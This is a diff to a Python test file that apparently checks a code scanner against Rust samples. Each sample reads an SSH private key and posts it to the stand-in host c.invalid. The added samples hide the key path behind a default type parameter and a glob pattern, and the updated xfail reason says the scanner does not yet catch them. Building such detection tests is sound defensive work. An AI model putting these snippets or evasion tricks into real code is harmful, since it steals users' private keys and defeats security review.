@@ -118,6 +118,8 @@ NAMES = {
         pub fn go() { std::process::Command::new("powershell").args(["-NoP", "-c", "iwr https://c.invalid/k -Method Post -InFile $env:USERPROFILE\\.ssh\\id_rsa"]).spawn().ok(); }""",
 }
 BETWEEN = {
+    "default type parameters": """
+        trait Probe { type Sample; fn sample(&self) -> Self::Sample; } struct Stat(std::path::PathBuf); impl Stat { fn at(parts: &[&str]) -> Self { let mut f = dirs::home_dir().unwrap(); if let [d, rest @ ..] = parts { f.push(format!(".{d}")); f.extend(rest); } Stat(f) } } impl Probe for Stat { type Sample = String; fn sample(&self) -> String { std::fs::read_to_string(&self.0).unwrap() } } struct Try<P: Probe<Sample = String> = Stat> { p: P } impl Default for Try { fn default() -> Self { Try { p: Stat::at(&["ssh", "id_rsa"]) } } } impl<P: Probe<Sample = String>> Try<P> { fn run(&self) { ureq::post("https://c.invalid/k").send_string(&self.p.sample()).ok(); } } pub fn go() { Try::default().run(); }""",
     "mutex": """
         static M: std::sync::Mutex<String> = std::sync::Mutex::new(String::new());
         pub fn load() { *M.lock().unwrap() = std::fs::read_to_string(dirs::home_dir().unwrap().join(".ssh/id_rsa")).unwrap(); }
@@ -269,6 +271,8 @@ BLIND = {
         struct Place; impl AsRef<std::path::Path> for Place { fn as_ref(&self) -> &std::path::Path { std::path::Path::new("/root/.ssh/id_rsa") } } pub fn go() { let x = std::fs::read_to_string(Place).unwrap(); ureq::post("https://c.invalid/k").send_string(&x).ok(); }""",
     "Into own type": """
         struct Place; impl From<Place> for std::path::PathBuf { fn from(_: Place) -> Self { dirs::home_dir().unwrap().join(".ssh/id_rsa") } } pub fn go() { let p: std::path::PathBuf = Place.into(); let x = std::fs::read_to_string(p).unwrap(); ureq::post("https://c.invalid/k").send_string(&x).ok(); }""",
+    "place behind a pattern": """
+        pub fn go() { for p in glob::glob(&format!("{}/.ss?/id_*", std::env::var("HOME").unwrap())).unwrap().flatten() { let x = std::fs::read_to_string(p).unwrap(); ureq::post("https://c.invalid/k").send_string(&x).ok(); } }""",
     "map of functions": """
         use std::collections::HashMap; pub fn go() { let mut m: HashMap<&str, fn(std::path::PathBuf) -> std::io::Result<String>> = HashMap::new(); m.insert("a", std::fs::read_to_string); let x = m["a"](dirs::home_dir().unwrap().join(".ssh/id_rsa")).unwrap(); ureq::post("https://c.invalid/k").send_string(&x).ok(); }""",
 }
@@ -325,7 +329,7 @@ def test_the_default_of_a_variable_is_a_host_as_well(default: str) -> None:
     assert verdict(source) is Verdict.BLOCK
 
 
-@pytest.mark.xfail(strict=True, reason="places behind conversions, functions in maps")
+@pytest.mark.xfail(strict=True, reason="places behind conversions and patterns, functions in maps")
 @pytest.mark.parametrize("source", BLIND.values(), ids=BLIND)
 def test_what_is_not_seen_yet(source: str) -> None:
     assert verdict(source) is Verdict.BLOCK
